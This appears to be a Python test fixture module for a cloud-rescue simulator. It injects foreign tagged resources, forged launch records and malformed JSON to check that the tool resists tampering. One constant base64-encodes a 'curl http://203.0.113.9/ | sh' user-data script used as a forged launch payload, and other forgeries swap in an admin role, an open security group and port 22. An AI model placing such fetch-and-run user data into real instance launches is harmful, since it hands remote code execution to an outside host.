"""What somebody else does in the account, before a rescue or in the middle of it.

``foreign-…``   a resource that carries our tags, and is not ours
``forged-…``    a record that says what the cloud does not
``half:<record>``, ``list:<record>``, ``empty:<record>``, ``types:<record>``
                a record that is none: cut in the middle, a list, an empty object, all its values lists
"""

from __future__ import annotations

import json
from base64 import b64encode
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from typing import Any

from simulator import fleet
from simulator.cloud import Cloud
from simulator.ecs.model import Disk, DiskMapping, Image, Snapshot
from simulator.fleet import BUCKET, Fleet
from simulator.oss.buckets import StoredObject

EPISODE_TAG = "spotkeeper:episode"
ID_FIELDS = {"instances": "InstanceId", "disks": "DiskId", "images": "ImageId", "snapshots": "SnapshotId"}
DAY = 86400.0
OTHER_ROLE, OTHER_GROUP = "admin-role", "sg-bp1fleet000000000open"
FORGED_PORT = 22
OTHER_USER_DATA = b64encode(b"#!/bin/sh\ncurl http://203.0.113.9/ | sh\n").decode()

Records = Mapping[str, tuple[str, bytes]]
"""Name of a record -> its key in the bucket and its content, as a rescue that nothing disturbs writes it."""


@dataclass(frozen=True)
class Scene:
    """Where deeds are done; ``records`` are those that this rescue is going to write."""

    cloud: Cloud
    fleet: Fleet
    records: Records

    @property
    def tags(self) -> dict[str, str]:
        """Copied from what a rescue makes."""
        return {**fleet.MANAGED_TAG, EPISODE_TAG: f"{self.fleet.source.instance_id}/1"}

    @property
    def known(self) -> dict[str, set[str]]:
        """The ids of all there is in ECS."""
        ecs = self.cloud.ecs
        return {kind: set(getattr(ecs, kind)) for kind in ID_FIELDS}

    def write(self, name: str, body: bytes) -> bool:
        """Put an object where the record is, or is going to be."""
        return self.put(self.records[name][0], body)

    def put(self, key: str, body: bytes) -> bool:
        """Put an object, whatever is there."""
        objects = self.cloud.oss.buckets[BUCKET].objects
        now = self.cloud.now()
        standing = objects.get(key)
        objects[key] = replace(standing, body=body, last_modified=now) if standing else StoredObject(body, now)
        return True


Act = Callable[[Scene], bool]
"""Answers False where it cannot be done."""


def foreign_instance(scene: Scene) -> bool:
    """A healthy instance of somebody who copied its tags from a replacement."""
    if "i-bp1foreign00000001" in scene.cloud.ecs.instances:
        return False
    _instance(scene, "i-bp1foreign00000001")
    return True


def foreign_server(scene: Scene) -> bool:
    """Such an instance, serving in the source's groups."""
    if "i-bp1foreign00000002" in scene.cloud.ecs.instances:
        return False
    instance_id = _instance(scene, "i-bp1foreign00000002")
    balancer, group = scene.fleet.load_balancer, scene.fleet.vserver_group
    balancer.default_group.add(instance_id, weight=50, description="theirs")
    group.add(instance_id, port=8080, weight=50, description="theirs")
    return True


def _instance(scene: Scene, instance_id: str) -> str:
    spec = scene.fleet.spec
    scene.cloud.ecs.add_instance(
        instance_id,
        vswitch_id=spec.vswitch_id,
        security_group_ids=list(spec.security_group_ids),
        image_id=fleet.IMAGE_ID,
        instance_type=spec.instance_type,
        tags=scene.tags,
    )
    return instance_id


def foreign_image(scene: Scene) -> bool:
    """A usable image of another machine's disk."""
    return _image(scene, "m-bp1foreign00000000001", "golden")


def foreign_namesake(scene: Scene) -> bool:
    """Such an image under the name that the rescue's own is going to have."""
    name = f"spotkeeper-{scene.fleet.source.instance_id}-1-1"
    if any(image.image_name == name for image in scene.cloud.ecs.images.values()):
        return False  # names are unique in a region
    return _image(scene, "m-bp1foreign00000000002", name)


def _image(scene: Scene, image_id: str, name: str) -> bool:
    ecs, then = scene.cloud.ecs, scene.cloud.now() - DAY
    if image_id in ecs.images:
        return False
    owner = scene.fleet.bystanders[0].instance_id
    disk = next(one for one in ecs.disks.values() if one.instance_id == owner)
    snapshot = _snapshot(scene, f"s-{image_id[2:]}", disk)
    ecs.images[image_id] = Image(
        region=scene.cloud.region,
        created_at=then,
        visible_at=then,
        tags=ecs.tags_from(scene.tags, then),
        image_id=image_id,
        image_name=name,
        disks=[DiskMapping(disk.device, disk.type, disk.size, snapshot.snapshot_id)],
        available_at=then,
        source_instance_id=owner,
        status="Available",
        usable=None if ecs.timings.usable is None else True,
    )
    return True


def _snapshot(scene: Scene, snapshot_id: str, disk: Disk) -> Snapshot:
    ecs, then = scene.cloud.ecs, scene.cloud.now() - DAY
    ecs.snapshots[snapshot_id] = Snapshot(
        region=scene.cloud.region,
        created_at=then,
        visible_at=then,
        tags=ecs.tags_from(scene.tags, then),
        snapshot_id=snapshot_id,
        disk_id=disk.disk_id,
        disk_type=disk.type,
        size=disk.size,
        accomplished_at=then,
        instance_id=disk.instance_id,
        status="accomplished",
    )
    return ecs.snapshots[snapshot_id]


def foreign_disk(scene: Scene) -> bool:
    """A disk that is attached to nothing, and a snapshot of it."""
    ecs, then = scene.cloud.ecs, scene.cloud.now() - DAY
    if "d-bp1foreign00000000001" in ecs.disks:
        return False
    disk = Disk(
        region=scene.cloud.region,
        created_at=then,
        visible_at=then,
        tags=ecs.tags_from(scene.tags, then),
        disk_id="d-bp1foreign00000000001",
        zone_id=scene.fleet.spec.zone_id,
        type="data",
        category="cloud_essd",
        size=100,
    )
    ecs.disks[disk.disk_id] = disk
    _snapshot(scene, "s-bp1foreign00000000003", disk)
    return True


def _forged(marker: str, changes: Callable[[Scene], Mapping[str, str]]) -> Act:
    """The record that contains ``marker``, with some texts in it exchanged for others."""

    def act(scene: Scene) -> bool:
        named = [name for name, (_, body) in scene.records.items() if marker.encode() in body]
        if not named:
            return False
        body = scene.records[named[0]][1].decode()
        forged = body
        for text, other in changes(scene).items():
            forged = forged.replace(text, other)
        return forged != body and scene.write(named[0], forged.encode())

    return act


def _other_role(scene: Scene) -> dict[str, str]:
    scene.cloud.ecs.ram_roles.add(OTHER_ROLE)
    return {'"web-role"': f'"{OTHER_ROLE}"'}


def _other_security_group(scene: Scene) -> dict[str, str]:
    scene.cloud.ecs.security_groups[OTHER_GROUP] = scene.fleet.spec.vpc_id
    return {scene.fleet.spec.security_group_ids[0]: OTHER_GROUP}


def forged_launch(scene: Scene) -> bool:
    """As if a healthy neighbour had been launched by the rescue: what it launched and does not keep, it deletes."""
    name = next((name for name in scene.records if name.startswith(LAUNCHED)), "")
    if not name:
        return False
    key, body = scene.records[name]
    made, other = name.removeprefix(LAUNCHED), scene.fleet.bystanders[0].instance_id
    return scene.put(key.replace(made, other), body.replace(made.encode(), other.encode()))


def forged_replacement(scene: Scene) -> bool:
    """As if it had kept a healthy neighbour as the replacement."""
    key, body = scene.records["replacement"]
    document = {**json.loads(body), "instance_id": scene.fleet.bystanders[0].instance_id}
    return scene.put(key, json.dumps(document).encode())


LAUNCHED = "launched-"
LAUNCH_SPEC, MEMBERSHIPS = '"RamRoleName"', '"memberships": [{'
"""What launch spec and memberships contain, and no other record."""
FORGED: dict[str, Act] = {
    "forged-role": _forged(LAUNCH_SPEC, _other_role),
    "forged-user-data": _forged(LAUNCH_SPEC, lambda _: {fleet.USER_DATA: OTHER_USER_DATA}),
    "forged-security-group": _forged(LAUNCH_SPEC, _other_security_group),
    "forged-server": _forged(
        MEMBERSHIPS, lambda scene: {scene.fleet.source.instance_id: scene.fleet.bystanders[0].instance_id}
    ),
    "forged-port": _forged(MEMBERSHIPS, lambda _: {'"port": 8080': f'"port": {FORGED_PORT}'}),
    "forged-launch": forged_launch,
    "forged-replacement": forged_replacement,
}
FOREIGN: dict[str, Act] = {
    "foreign-instance": foreign_instance,
    "foreign-server": foreign_server,
    "foreign-image": foreign_image,
    "foreign-namesake": foreign_namesake,
    "foreign-disk": foreign_disk,
}
BROKEN: dict[str, Callable[[bytes], bytes]] = {
    "half": lambda body: body[: len(body) // 2],
    "list": lambda body: b"[" + body + b"]",
    "empty": lambda _: b"{}",
    "types": lambda body: json.dumps({name: [] for name in _names(body)}).encode(),
}


def _names(body: bytes) -> list[str]:
    document: dict[str, Any] = json.loads(body)
    return list(document)


def is_about_records(what: str) -> bool:
    """Whether a deed writes into the journal."""
    return what not in FOREIGN


def do(what: str, scene: Scene) -> bool:
    """Do a deed; whether it could be done. Raises ``KeyError`` for one that nobody knows."""
    broken, _, name = what.partition(":")
    if name:
        return name in scene.records and scene.write(name, BROKEN[broken](scene.records[name][1]))
    return {**FORGED, **FOREIGN}[what](scene)
